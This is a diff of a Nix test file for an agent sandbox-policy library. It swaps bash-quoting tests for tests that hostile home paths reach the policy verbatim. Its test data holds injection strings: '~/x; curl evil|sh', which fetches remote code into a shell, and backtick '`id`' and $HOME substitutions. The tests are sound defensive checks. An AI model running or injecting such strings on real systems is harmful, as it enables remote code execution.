@@ -1,5 +1,5 @@
-# Paths: normalised, kept verbatim in the policy, and the bash quoting rule on exact words
-# (tests/nix_library.rs and tests/adversarial.rs decode the same words with bash).
+# Paths: checked, normalised and kept verbatim in the policy (tests/adversarial.rs and
+# tests/nix_library.rs hand hostile ones to the library and read the policy back).
 {
   h ? import ./helpers.nix { },
 }:
@@ -19,31 +19,25 @@ let
     )).readonly;
 in
 {
-  "test: a plain home path stays readable" = {
-    expr = paths.word "~/.config/my-agent";
-    expected = "~/.config/my-agent";
-  };
-  "test: a home path with a space keeps the tilde outside the quotes" = {
-    expr = paths.word "~/my dir";
-    expected = "~/'my dir'";
-  };
-  "test: an injection attempt after a tilde is quoted" = {
-    expr = paths.word "~/x; curl evil|sh";
-    expected = "~/'x; curl evil|sh'";
-  };
-  "test: a single quote in a home path is closed, escaped and reopened" = {
-    expr = paths.word "~/it's";
-    expected = "~/'it'\\''s'";
-  };
-  "test: an absolute path is quoted whole" = {
-    expr = paths.word "/srv/a b";
-    expected = "'/srv/a b'";
+  "test: hostile home paths reach the policy as they are, one grant each" = {
+    expr = map agentBinds [
+      "~/my dir"
+      "~/x; curl evil|sh"
+      "~/it's"
+      "~/\"quoted\" `id` $HOME"
+    ];
+    expected = [
+      [ "~/my dir" ]
+      [ "~/x; curl evil|sh" ]
+      [ "~/it's" ]
+      [ "~/\"quoted\" `id` $HOME" ]
+    ];
   };
   "test: a bare tilde is the home directory" = {
-    expr = paths.word "~";
-    expected = "~";
+    expr = agentBinds "~";
+    expected = [ "~" ];
   };
-  "test: paths are normalised before quoting" = {
+  "test: paths are normalised" = {
     expr = map paths.normalize [
       "~/a//b/"
       "/srv/./x/"
@@ -70,18 +64,6 @@ in
   "test: an absolute path reaches the policy as it is" = {
     expr = agentBinds "/srv/a b";
     expected = [ "/srv/a b" ];
-  };
-  "test: a dollar or backtick goes in double quotes with those characters escaped" = {
-    expr = map paths.word [
-      "~/a $b"
-      "/srv/`id`"
-      "/x/\\\"$"
-    ];
-    expected = [
-      "~/\"a \\$b\""
-      "\"/srv/\\`id\\`\""
-      "\"/x/\\\\\\\"\\$\""
-    ];
   };
   "test: a path with a dollar or backtick reaches the policy as it is and never the wrapper" = {
     expr =
